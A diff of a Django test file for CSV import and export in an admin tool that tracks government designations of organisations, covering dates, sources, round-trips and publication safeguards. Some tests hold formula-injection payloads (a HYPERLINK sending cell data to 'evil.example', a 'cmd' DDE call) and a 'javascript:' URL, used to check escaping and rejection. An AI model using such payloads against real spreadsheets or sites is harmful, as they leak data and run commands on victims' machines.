@@ -1,17 +1,21 @@
 """Bulk import of designations through the admin: upload, preview (dry run), confirm; export."""
 
+import csv
 import datetime
+import io
 import re
 
 import pytest
+from django.apps import apps
 from django.contrib.auth.models import Permission
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
 from django.test import Client
 from import_export.formats.base_formats import CSV
 
 from tests import factories
 from tracker.choices import DatePrecision, OrganisationKind, Reliability, SourceKind, State
-from tracker.imports import CHANGE_REASON
+from tracker.imports import CHANGE_REASON, NEW_UNDATED, NEW_UNSOURCED
 from tracker.models import Citation, Designation, Organisation, OrganisationAlias, Source
 
 pytestmark = pytest.mark.django_db
@@ -173,7 +177,11 @@ def test_confirm_creates_drafts_citing_sources_with_history_of_who_imported(
 
 def test_import_matches_organisations_by_name_or_alias_in_any_case(editor_client, record):
     fidh = record.organisation
-    memorial = factories.OrganisationFactory(name="Мемориал", slug="memorial", country="")
+    # Neither is public, so the file may add to them (see the test after this one).
+    Organisation.objects.filter(pk=fidh.pk).update(state=State.REVIEW)
+    memorial = factories.OrganisationFactory(
+        name="Мемориал", slug="memorial", country="", state=State.DRAFT
+    )
     before = counts()
     previewed = preview(
         editor_client,
@@ -247,7 +255,7 @@ BAD_FILES = {
     ),
     "bad date": (
         csv_file("Memorial,,,undesirable,,13/11/2025,,https://example.org/1"),
-        ["“13/11/2025” is not a date: write YYYY-MM-DD, YYYY-MM, YYYY or DD.MM.YYYY."],
+        ["“13/11/2025” is not a date: write YYYY-MM-DD, YYYY-MM, YYYY, c. YYYY or DD.MM.YYYY."],
     ),
     "impossible date": (
         csv_file("Memorial,,,undesirable,,2025-02-30,,https://example.org/1"),
@@ -261,13 +269,21 @@ BAD_FILES = {
         csv_file("Memorial,,,undesirable,,2025-03-01,2025-02-01,https://example.org/1"),
         ["The register date cannot be before the decision date."],
     ),
+    "register month before the decision's month": (
+        csv_file("Memorial,,,undesirable,,2025-03-13,2025-02,https://example.org/1"),
+        ["The register date cannot be before the decision date."],
+    ),
+    "register year before the decision's year": (
+        csv_file("Memorial,,,undesirable,,2025-03-13,2024,https://example.org/1"),
+        ["The register date cannot be before the decision date."],
+    ),
     "unknown type": (
         csv_file("Memorial,,,dangerous,,2025-03-01,,https://example.org/1"),
         ["“dangerous” is not a designation type"],
     ),
     "no date": (
         csv_file("Memorial,,,undesirable,,,,https://example.org/1"),
-        ["Give the decision date, the register date or both."],
+        ["A new designation needs its decision date, its register date or both"],
     ),
     "name too long": (
         csv_file(f"{'N' * 301},,,undesirable,,2025-03-01,,https://example.org/1"),
@@ -275,7 +291,11 @@ BAD_FILES = {
     ),
     "no source": (
         csv_file("Memorial,,,undesirable,,2025-03-01,,"),
-        ["Every designation must cite a source"],
+        ["source URL: Every new designation must cite a source: give its address."],
+    ),
+    "script address": (
+        csv_file("Memorial,,,undesirable,,2025-03-01,,javascript:alert(1)"),
+        ["“javascript:alert(1)” is not a web address."],
     ),
     "bad country": (
         csv_file("Memorial,,Russia,undesirable,,2025-03-01,,https://example.org/1"),
@@ -461,3 +481,299 @@ def test_import_and_export_pages_need_no_inline_script(editor_client, record):
         assert "script-src 'self'" in page["Content-Security-Policy"]
         assert re.findall(r"<script(?![^>]*\bsrc=)[^>]*>", page.text) == []
         assert re.findall(r"\son[a-z]+=", page.text) == []
+
+
+def export_csv(client):
+    response = client.post(EXPORT_URL, {"format": "0"})
+    assert response.status_code == 200
+    return response.content.decode()
+
+
+def exported_rows(exported):
+    return list(csv.DictReader(io.StringIO(exported)))
+
+
+def snapshot():
+    """Every row of every tracker table, the history tables included."""
+    return {
+        model._meta.db_table: list(model.objects.order_by("pk").values())
+        for model in apps.get_app_config("tracker").get_models()
+    }
+
+
+def reimport(client, exported):
+    """Uploads an exported file and confirms it; returns the preview."""
+    upload = SimpleUploadedFile("export.csv", exported.encode(), content_type="text/csv")
+    previewed = preview(client, upload)
+    assert previewed.status_code == 200
+    response = confirm(client, previewed)
+    assert response.status_code == 302
+    assert response["Location"] == "/admin/tracker/designation/"
+    return previewed
+
+
+def test_the_seed_record_exported_and_imported_again_changes_nothing(editor_client):
+    call_command("load_seed", stdout=io.StringIO())
+    exported = export_csv(editor_client)
+    rows = exported_rows(exported)
+    assert len(rows) == Designation.objects.count() == 12
+    by_name = {row["organisation name"]: row for row in rows}
+    # What the import once refused: no dates, no source address, an approximate year.
+    assert by_name["Memorial"]["decision date"] == by_name["Memorial"]["source URL"] == ""
+    assert by_name["The Moscow Times"]["decision date"] == "c. 2024"
+    assert by_name["Centre for Social Policy and Gender Studies"]["register date"] == "c. 2013"
+    assert by_name["Amnesty International"]["country"] == "GB"
+    before = snapshot()
+
+    previewed = reimport(editor_client, exported)
+    totals = previewed.context["result"].totals
+    assert (totals["new"], totals["skip"], totals["invalid"], totals["error"]) == (0, 12, 0, 0)
+    assert previewed.text.count("already recorded (#") == 12
+    assert "proposes" not in previewed.text  # every name, alias and country read back as written
+    assert snapshot() == before
+
+
+def test_every_kind_of_date_alias_and_country_survives_the_round_trip(editor_client):
+    memorial = factories.OrganisationFactory(
+        name="Мемориал", slug="memorial", country="RU", state=State.DRAFT
+    )
+    factories.OrganisationAliasFactory(organisation=memorial, name="Memorial")
+    factories.OrganisationAliasFactory(organisation=memorial, name="HRC «Memorial»")
+    dates = {
+        "2024-11-13": (datetime.date(2024, 11, 13), DatePrecision.DAY),
+        "2023-11": (datetime.date(2023, 11, 1), DatePrecision.MONTH),
+        "2022": (datetime.date(2022, 1, 1), DatePrecision.YEAR),
+        "c. 2021": (datetime.date(2021, 1, 1), DatePrecision.APPROXIMATE),
+    }
+    for decided, precision in dates.values():
+        factories.DesignationFactory(
+            organisation=memorial,
+            state=State.DRAFT,
+            decision_date=decided,
+            decision_date_precision=precision,
+        )
+    registered_only = factories.DesignationFactory(
+        organisation=memorial,
+        kind="foreign_agent",
+        decision_date=None,
+        register_date=datetime.date(2013, 1, 1),
+        register_date_precision=DatePrecision.APPROXIMATE,
+    )
+    undated = factories.DesignationFactory(
+        organisation=memorial, kind="extremist", decision_date=None
+    )
+    exported = export_csv(editor_client)
+    rows = exported_rows(exported)
+    assert {row["decision date"] for row in rows} == {*dates, ""}
+    assert {row["aliases"] for row in rows} == {"HRC «Memorial»; Memorial"}
+    assert {row["country"] for row in rows} == {"RU"}
+    undated_rows = [row["register date"] for row in rows if row["decision date"] == ""]
+    assert sorted(undated_rows) == ["", "c. 2013"]
+    before = snapshot()
+
+    previewed = reimport(editor_client, exported)
+    assert previewed.context["result"].totals["skip"] == 6
+    assert f"already recorded (#{registered_only.pk}): skipped" in previewed.text
+    assert f"already recorded (#{undated.pk}): skipped" in previewed.text
+    assert "adds aliases" not in previewed.text
+    assert snapshot() == before
+
+
+def test_import_reads_each_precision_and_orders_partial_dates_by_their_range(editor_client):
+    previewed = preview(
+        editor_client,
+        csv_file(
+            "Memorial,,,undesirable,,2025-11-13,2025-11,https://example.org/1",
+            "Sova Center,,,foreign_agent,,2025-11-13,2025,https://example.org/2",
+            "The Moscow Times,,,undesirable,,C. 2024,,https://example.org/3",
+            "Truth Hounds,,,undesirable,,2024-05,2024-05-20,https://example.org/4",
+        ),
+    )
+    assert previewed.context["result"].totals["new"] == 4
+    confirm(editor_client, previewed)
+
+    stored = {
+        designation.organisation.name: designation
+        for designation in Designation.objects.select_related("organisation")
+    }
+    assert (
+        stored["Memorial"].register_date,
+        stored["Memorial"].register_date_precision,
+    ) == (datetime.date(2025, 11, 1), DatePrecision.MONTH)
+    assert stored["Sova Center"].register_date_precision == DatePrecision.YEAR
+    assert (
+        stored["The Moscow Times"].decision_date,
+        stored["The Moscow Times"].decision_date_precision,
+    ) == (datetime.date(2024, 1, 1), DatePrecision.APPROXIMATE)
+    assert stored["Truth Hounds"].decision_date_precision == DatePrecision.MONTH
+
+
+def test_rows_without_dates_or_source_match_what_is_recorded_but_new_ones_need_both(
+    editor_client,
+):
+    organisation = factories.OrganisationFactory(name="Truth Hounds", state=State.DRAFT)
+    undated = factories.DesignationFactory(organisation=organisation, decision_date=None)
+    dated = factories.DesignationFactory(
+        organisation=organisation, decision_date=datetime.date(2025, 5, 19)
+    )
+    registered = factories.DesignationFactory(
+        organisation=organisation,
+        kind="foreign_agent",
+        decision_date=None,
+        register_date=datetime.date(2013, 1, 1),
+        register_date_precision=DatePrecision.APPROXIMATE,
+    )
+    before = counts()
+    response = preview(
+        editor_client,
+        csv_file(
+            "Truth Hounds,,,undesirable,,,,",
+            "Truth Hounds,,,undesirable,,2025-05-19,,",
+            "Truth Hounds,,,foreign_agent,,,c. 2013,",
+            "Truth Hounds,,,extremist,,,,https://example.org/1",
+            "Truth Hounds,,,extremist,,2025-01-01,,",
+            "Truth Hounds,,,foreign_agent,,,2014,https://example.org/2",
+        ),
+    )
+    page = response.text
+    for designation in (undated, dated, registered):
+        assert f"already recorded (#{designation.pk}): skipped" in page
+    invalid = response.context["result"].invalid_rows
+    assert {row.number: row.field_specific_errors for row in invalid} == {
+        4: {"decision date": [NEW_UNDATED]},
+        5: {"source URL": [NEW_UNSOURCED]},
+    }
+    assert NEW_UNDATED in page
+    totals = response.context["result"].totals
+    assert (totals["skip"], totals["invalid"], totals["new"]) == (3, 2, 1)
+    assert not offers_confirmation(response)
+    assert counts() == before
+
+
+def test_a_published_organisation_keeps_its_country_and_aliases(editor_client, record):
+    fidh = record.organisation
+    moscow_times = factories.OrganisationFactory(name="The Moscow Times", country="")
+    history = {
+        organisation.pk: organisation.history.count() for organisation in (fidh, moscow_times)
+    }
+    before = counts()
+    previewed = preview(
+        editor_client,
+        csv_file(
+            "fidh,Fédération internationale; FIDH,UA,extremist,,2024-04-01,,https://example.org/2",
+            "The Moscow Times,,NL,undesirable,,c. 2024,,https://example.org/3",
+        ),
+    )
+    page = previewed.text
+    assert (
+        "published: country and aliases not changed (the file proposes country UA and aliases "
+        "“Fédération internationale”; left for an editor to review)" in page
+    )
+    assert "published: country and aliases not changed (the file proposes country NL;" in page
+    assert "adds aliases" not in page
+    confirm(editor_client, previewed)
+
+    for organisation in (fidh, moscow_times):
+        organisation.refresh_from_db()
+        assert organisation.history.count() == history[organisation.pk]
+    assert (fidh.country, moscow_times.country) == ("FR", "")
+    assert list(fidh.aliases.values_list("name", flat=True)) == ["FIDH"]
+    assert counts() == {
+        **before,
+        "Designation": before["Designation"] + 2,
+        "Source": before["Source"] + 2,
+        "Citation": before["Citation"] + 2,
+    }
+    # The new designations are drafts, whatever their organisation's state.
+    assert set(
+        Designation.objects.filter(organisation__in=[fidh, moscow_times])
+        .exclude(pk=record.pk)
+        .values_list("state", flat=True)
+    ) == {State.DRAFT}
+
+
+def confirm_after(client, rows, change):
+    """Previews `rows`, runs `change` on the record, then confirms; returns the response."""
+    previewed = preview(client, csv_file(*rows))
+    assert offers_confirmation(previewed)
+    change()
+    before = counts()
+    response = confirm(client, previewed)
+    assert counts() == before
+    return response
+
+
+def test_confirm_imports_nothing_when_an_organisation_was_published_since_the_preview(
+    editor_client,
+):
+    memorial = factories.OrganisationFactory(name="Memorial", country="", state=State.DRAFT)
+    response = confirm_after(
+        editor_client,
+        [
+            "Memorial,Мемориал,RU,undesirable,,2025-03-01,,https://example.org/1",
+            "Sova Center,,,foreign_agent,,2025-03-01,,https://example.org/2",
+        ],
+        lambda: Organisation.objects.filter(pk=memorial.pk).update(state=State.PUBLISHED),
+    )
+
+    assert response.status_code == 302
+    assert response["Location"] == IMPORT_URL
+    assert "Nothing was imported: the record changed since the preview" in (
+        editor_client.get(IMPORT_URL).text
+    )
+    memorial.refresh_from_db()
+    assert memorial.country == ""
+    assert not memorial.aliases.exists()
+    assert not Organisation.objects.filter(name="Sova Center").exists()
+
+
+def test_confirm_imports_nothing_when_a_new_row_was_recorded_since_the_preview(editor_client):
+    memorial = factories.OrganisationFactory(name="Memorial", state=State.DRAFT)
+    response = confirm_after(
+        editor_client,
+        [
+            "Memorial,,,undesirable,,2025-03-01,,https://example.org/1",
+            "Sova Center,,,foreign_agent,,2025-03-01,,https://example.org/2",
+        ],
+        lambda: factories.DesignationFactory(
+            organisation=memorial, decision_date=datetime.date(2025, 3, 1)
+        ),
+    )
+
+    assert response["Location"] == IMPORT_URL
+    assert not Organisation.objects.filter(name="Sova Center").exists()
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
+def test_export_escapes_formulas_and_the_import_reads_them_back(editor_client, prefix):
+    names = {
+        "name": f'{prefix}HYPERLINK("https://evil.example/?"&A1,"Rights")',
+        "alias": f"{prefix}SUM(1+1)",
+        "authority": f"{prefix}cmd|' /C calc'!A0",
+        "quoted name": f"'{prefix}already quoted",
+        "apostrophe": "'s-Hertogenbosch Rights",
+    }
+    organisation = factories.OrganisationFactory(name=names["name"], state=State.DRAFT)
+    factories.OrganisationAliasFactory(organisation=organisation, name=names["alias"])
+    factories.DesignationFactory(organisation=organisation, authority=names["authority"])
+    factories.DesignationFactory(
+        organisation=factories.OrganisationFactory(name=names["quoted name"], state=State.DRAFT)
+    )
+    factories.DesignationFactory(
+        organisation=factories.OrganisationFactory(name=names["apostrophe"], state=State.DRAFT)
+    )
+
+    exported = export_csv(editor_client)
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
+    assert f"'{names['name']}" in cells
+    assert f"'{names['alias']}" in cells
+    assert f"'{names['authority']}" in cells
+    assert f"''{prefix}already quoted" in cells
+    assert names["apostrophe"] in cells  # not a formula: written as it is
+
+    before = snapshot()
+    previewed = reimport(editor_client, exported)
+    totals = previewed.context["result"].totals
+    assert (totals["new"], totals["skip"]) == (0, 3)
+    assert snapshot() == before
